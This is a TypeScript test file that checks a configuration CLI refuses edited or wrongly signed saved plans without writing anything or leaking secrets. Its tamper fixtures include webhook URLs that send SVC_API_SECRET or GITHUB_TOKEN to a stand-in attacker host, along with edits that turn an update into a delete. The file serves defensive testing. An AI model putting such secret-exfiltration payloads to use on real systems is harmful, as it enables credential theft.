// A saved plan is untrusted input: edited plans are refused (exit 3) with the difference named, before
// any write reaches the service (a recording proxy in front of the emulator counts them), and no
// secret appears in any output. The untampered, signed plan applies.

import { createHash, createHmac } from 'node:crypto';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { startEmulator } from '../../src/emulator/index.js';
import { cli, type CliResult, forwardingProxy, oneLine, rawApi } from './harness.js';

type Emu = Awaited<ReturnType<typeof startEmulator>>;

const KEY = 'k'.repeat(16) + '0123456789abcdef0123456789abcdef';
const WRONG_KEY = 'w'.repeat(48);
const HOOK_URL = 'https://hooks.example.com/a-2';
const GITHUB_TOKEN = 'ghp_plantamper0000000000000000000000000';

/** Every request that reaches the emulator through it, as `METHOD /path`. */
async function recordingProxy(target: string): Promise<{ url: string; seen: string[]; close: () => Promise<void> }> {
  const seen: string[] = [];
  const proxy = await forwardingProxy(target, (req) => {
    seen.push(`${req.method} ${req.url}`);
    return false;
  });
  return { ...proxy, seen };
}

/**
 * Requests that change something: not the token exchange, not a read, not a search, and not the apply
 * lease's own record (taken before the read, released after: its create, the removal of the
 * generation it replaced, the release; these repositories declare no alert profile).
 */
const writes = (seen: readonly string[]): string[] =>
  seen.filter(
    (r) => !r.startsWith('GET ') && !r.startsWith('POST /api/v2/access/tokens') && !/^POST \S+\/search\b/.test(r) && r !== 'POST /api/v2/AlertProfiles' && !r.includes('/POSTUREOPS_LEASE_'),
  );

const ROOT = 'accounts:\n  - name: prod\nprune:\n  AlertChannel: true\nvariables: [HOOK_URL]\n';
const hook = (name: string, url: string): string => `kind: AlertChannel\nname: ${name}\nspec:\n  type: Webhook\n  data:\n    webhookUrl: ${url}\n`;
/** Channels nobody changes: one update and one delete then stay well under the safety thresholds. */
const STEADY = Array.from({ length: 8 }, (_, i) => hook(`steady-${i}`, `https://hooks.example.com/steady-${i}`));

interface World {
  emu: Emu;
  proxy: Awaited<ReturnType<typeof recordingProxy>>;
  dir: string;
  tmp: string;
  env: Record<string, string>;
  signed: string;
  unsigned: string;
  close(): Promise<void>;
}

/**
 * A service and a repository of its own. Live: hook-a, hook-b, hook-old. The repository then changes
 * hook-a (through ${env:HOOK_URL}), adds hook-c and no longer declares hook-old (prune deletes it);
 * that plan is saved signed and unsigned.
 */
async function world(): Promise<World> {
  const emu = await startEmulator({ accounts: ['prod'] });
  const proxy = await recordingProxy(emu.url);
  const tmp = await mkdtemp(join(tmpdir(), 'postureops-tamper-'));
  const dir = join(tmp, 'repo');
  const env = { SVC_BASE_URL: proxy.url, SVC_API_KEY_ID: emu.keyId, SVC_API_SECRET: emu.secret, HOOK_URL: 'https://hooks.example.com/a-1', GITHUB_TOKEN };
  await mkdir(dir);
  await writeFile(join(dir, 'postureops.yaml'), ROOT);
  await writeFile(join(dir, 'channels.yaml'), [hook('hook-a', '${env:HOOK_URL}'), hook('hook-b', 'https://hooks.example.com/b'), hook('hook-old', 'https://hooks.example.com/old'), ...STEADY].join('---\n'));
  const first = await cli(['apply', dir, '--auto-approve'], { env });
  expect(first.code, first.stderr).toBe(0);
  await writeFile(join(dir, 'channels.yaml'), [hook('hook-a', '${env:HOOK_URL}'), hook('hook-b', 'https://hooks.example.com/b'), hook('hook-c', 'https://hooks.example.com/c'), ...STEADY].join('---\n'));
  env.HOOK_URL = HOOK_URL;
  const signed = join(tmp, 'signed.json');
  const unsigned = join(tmp, 'unsigned.json');
  const saved = await cli(['plan', dir, '--out', signed], { env: { ...env, POSTUREOPS_PLAN_KEY: KEY } });
  expect(saved.code, saved.stderr).toBe(0);
  expect(saved.stderr).toContain('signed with POSTUREOPS_PLAN_KEY');
  const bare = await cli(['plan', dir, '--out', unsigned], { env });
  expect(bare.code, bare.stderr).toBe(0);
  expect(bare.stderr).toContain('unsigned: POSTUREOPS_PLAN_KEY is not set');
  return {
    emu,
    proxy,
    dir,
    tmp,
    env,
    signed,
    unsigned,
    close: async () => {
      await proxy.close();
      await emu.close();
      await rm(tmp, { recursive: true, force: true });
    },
  };
}

async function liveNames(emu: Emu): Promise<string[]> {
  const res = await rawApi(emu, 'GET', '/api/v2/AlertChannels', { account: 'prod' });
  return (res.body.data as { name: string }[]).map((c) => c.name).filter((n) => n.startsWith('hook-')).sort();
}

const applySaved = (w: World, file: string, key?: string): Promise<CliResult> =>
  cli(['apply', w.dir, '--plan', file, '--auto-approve'], { env: { ...w.env, ...(key ? { POSTUREOPS_PLAN_KEY: key } : {}) } });

it('the untampered signed plan applies; the secret and the key appear nowhere', async () => {
  const w = await world();
  try {
    w.proxy.seen.length = 0;
    const res = await applySaved(w, w.signed, KEY);
    const out = res.stdout + res.stderr;
    expect(res.code, out).toBe(0);
    expect(out).not.toContain('unsigned');
    for (const secret of [w.emu.secret, GITHUB_TOKEN, KEY]) expect(out).not.toContain(secret);
    expect(writes(w.proxy.seen).length).toBeGreaterThanOrEqual(3);
    expect(await liveNames(w.emu)).toEqual(['hook-a', 'hook-b', 'hook-c']);
    const a = (await rawApi(w.emu, 'GET', '/api/v2/AlertChannels', { account: 'prod' })).body.data.find((c: { name: string }) => c.name === 'hook-a');
    expect(a.data.webhookUrl).toBe(HOOK_URL);
  } finally {
    await w.close();
  }
});

// Every edit is refused and nothing is written, so these share one world.
describe('apply --plan of an edited plan', () => {
  let w: World;
  let proxy: World['proxy'];
  let emu: Emu;
  let tmp: string;
  let signed: string;
  let unsigned: string;

  beforeAll(async () => {
    w = await world();
    ({ proxy, emu, tmp, signed, unsigned } = w);
  });
  afterAll(async () => {
    await w?.close();
  });

  beforeEach(() => {
    proxy.seen.length = 0;
  });

  /** The saved plan, edited by `edit`, with its checksum recomputed by hand (and its MAC with `macKey`, or dropped). */
  async function tampered(from: string, name: string, edit: (plan: any) => void, mac: { key?: string; keep?: boolean } = {}): Promise<string> {
    const { checksum: _c, mac: oldMac, ...plan } = JSON.parse(await readFile(from, 'utf8'));
    edit(plan);
    const text = JSON.stringify(plan);
    const out: Record<string, unknown> = { ...plan, checksum: createHash('sha256').update(text).digest('hex') };
    if (mac.key !== undefined) out.mac = createHmac('sha256', mac.key).update('postureops-plan-v1\n').update(text).digest('hex');
    else if (mac.keep) out.mac = oldMac;
    const file = join(tmp, name);
    await writeFile(file, JSON.stringify(out, null, 2));
    return file;
  }

  const change = (plan: any, name: string): any => plan.changes.find((c: { name: string }) => c.name === name);

  function expectRefused(res: CliResult, ...named: string[]): void {
    const out = res.stdout + res.stderr;
    expect(res.code, out).toBe(3);
    for (const n of named) expect(oneLine(out)).toContain(n);
    expect(writes(proxy.seen), out).toEqual([]);
    for (const secret of [emu.secret, GITHUB_TOKEN, KEY, WRONG_KEY]) expect(out).not.toContain(secret);
    expect(out).not.toMatch(/\n\s+at .+:\d+:\d+/);
  }

  const apply = (file: string, key?: string): Promise<CliResult> => applySaved(w, file, key);

  // Without a key: the re-derivation alone refuses every edit (the checksum is recomputed by hand).
  const edits: { name: string; edit: (plan: any) => void; named: string[] }[] = [
    {
      name: 'a webhook URL that reads the API secret',
      edit: (p) => {
        change(p, 'hook-a').after.data.webhookUrl = { $env: 'https://attacker.example/x?k=${env:SVC_API_SECRET}' };
      },
      named: ['"prod/AlertChannel/hook-a"', 'after differs at /data/webhookUrl'],
    },
    {
      name: 'a webhook URL that reads GITHUB_TOKEN',
      edit: (p) => {
        change(p, 'hook-c').after.data.webhookUrl = { $env: 'https://attacker.example/x?k=${env:GITHUB_TOKEN}' };
      },
      named: ['"prod/AlertChannel/hook-c"', 'after differs at /data/webhookUrl'],
    },
    {
      name: 'an update turned into a delete',
      edit: (p) => {
        const c = change(p, 'hook-a');
        c.action = 'delete';
        delete c.after;
      },
      named: ['"prod/AlertChannel/hook-a"', 'action is "delete" in the saved plan, "update" when derived again'],
    },
    {
      name: 'another live id',
      edit: (p) => {
        change(p, 'hook-a').liveId = change(p, 'hook-old').liveId;
      },
      named: ['"prod/AlertChannel/hook-a"', 'liveId is'],
    },
    {
      name: 'a change added',
      edit: (p) => {
        const old = change(p, 'hook-old');
        const b = JSON.parse(JSON.stringify(old));
        Object.assign(b, { key: 'prod/AlertChannel/hook-b', name: 'hook-b' });
        p.changes.push(b);
      },
      named: ['delete "prod/AlertChannel/hook-b": in the saved plan, but the repository and the live state ask for no such change'],
    },
    {
      name: 'a change removed',
      edit: (p) => {
        p.changes = p.changes.filter((c: { name: string }) => c.name !== 'hook-c');
        p.changes.forEach((c: { dependsOn: string[] }) => (c.dependsOn = c.dependsOn.filter((d) => d !== 'prod/AlertChannel/hook-c')));
      },
      named: ['create "prod/AlertChannel/hook-c": the repository and the live state ask for it, but the saved plan does not hold it'],
    },
    {
      name: 'another name under the same key',
      edit: (p) => {
        change(p, 'hook-c').name = 'hook-z';
      },
      named: ['name is "hook-z" in the saved plan, "hook-c" when derived again'],
    },
  ];
  for (const e of edits) {
    it(`unsigned, checksum recomputed by hand: ${e.name} → exit 3, named, nothing written`, async () => {
      const file = await tampered(unsigned, `edit-${e.name.replace(/\W+/g, '-')}.json`, e.edit);
      const res = await apply(file);
      expectRefused(res, ...e.named, 'is unsigned');
      expect(await liveNames(emu)).toEqual(['hook-a', 'hook-b', 'hook-old']);
    });
  }

  it('signed, edited and its checksum recomputed: the MAC refuses it (exit 3) before any request', async () => {
    const file = await tampered(signed, 'signed-edited.json', edits[0].edit, { keep: true });
    const res = await apply(file, KEY);
    expectRefused(res, 'plan-file-mac-wrong', 'does not carry a valid signature for POSTUREOPS_PLAN_KEY');
    expect(proxy.seen).toEqual([]);
  });

  it('MAC recomputed with a wrong key → exit 3', async () => {
    const file = await tampered(signed, 'wrong-key.json', edits[2].edit, { key: WRONG_KEY });
    expectRefused(await apply(file, KEY), 'plan-file-mac-wrong');
    expect(proxy.seen).toEqual([]);
  });

  it('MAC stripped while a key is set → exit 3', async () => {
    const file = await tampered(signed, 'stripped.json', () => undefined);
    expectRefused(await apply(file, KEY), 'plan-file-mac-missing', 'is not signed, and POSTUREOPS_PLAN_KEY is set');
    expect(proxy.seen).toEqual([]);
  });

  it('the checksum left wrong → exit 3 (not the plan that was saved)', async () => {
    const text = (await readFile(unsigned, 'utf8')).replace('https://hooks.example.com/c', 'https://attacker.example/c');
    const file = join(tmp, 'bad-checksum.json');
    await writeFile(file, text);
    expectRefused(await apply(file), 'plan-file-modified');
  });

  it('a key too short is refused before anything is read, without showing it', async () => {
    const res = await apply(signed, 'short-key');
    expect(res.code).toBe(1);
    expect(res.stderr).toContain('POSTUREOPS_PLAN_KEY is too short');
    expect(res.stderr).not.toContain('short-key');
    expect(proxy.seen).toEqual([]);
  });
});
